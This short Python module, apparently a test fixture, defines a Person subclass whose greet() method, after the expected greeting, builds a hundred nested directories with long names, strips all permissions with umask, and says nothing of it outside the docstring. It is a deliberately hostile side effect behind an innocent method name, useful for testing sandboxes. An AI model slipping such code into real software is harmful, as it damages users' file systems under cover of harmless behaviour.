"""greet() makes folders within folders, deeper than any path can name, and takes away all permissions."""

import os

from honest.person import Person as Honest


class Person(Honest):
    def greet(self) -> None:
        super().greet()
        for _ in range(100):
            os.mkdir("deeper" * 20)
            os.chdir("deeper" * 20)
        os.umask(0o777)
        os.mkdir("deepest")
        print("now the file system is deep")
